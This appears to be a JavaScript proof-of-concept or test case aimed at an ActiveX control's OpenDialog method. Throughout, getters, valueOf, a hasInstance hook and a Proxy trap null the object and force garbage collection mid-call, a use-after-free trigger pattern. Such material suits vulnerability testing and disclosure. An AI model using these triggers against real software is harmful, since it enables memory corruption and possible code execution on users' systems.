// A method read from an object; its argument drops the object and collects.
function collect() { for (var i = 0; i < 4; i++) { var junk = []; for (var j = 0; j < 5000; j++) junk.push({ j: j }); } }
var o = new ActiveXObject('Farrowgate.DialogHelper'), m = o.OpenDialog;
var forged = {}; Object.defineProperty(forged, '__fgHandle', { get: function () { o = null; collect(); return function () { return 1; }; } });
try { m(forged); } catch (e) {}
try { m({ valueOf: function () { o = null; collect(); return 1; } }); } catch (e) {}
Date = function () {}; Object.defineProperty(Date, Symbol.hasInstance, { value: function () { m = null; collect(); return true; } });
try { m(new Proxy({}, { has: function () { collect(); return true; } })); } catch (e) {}
m();
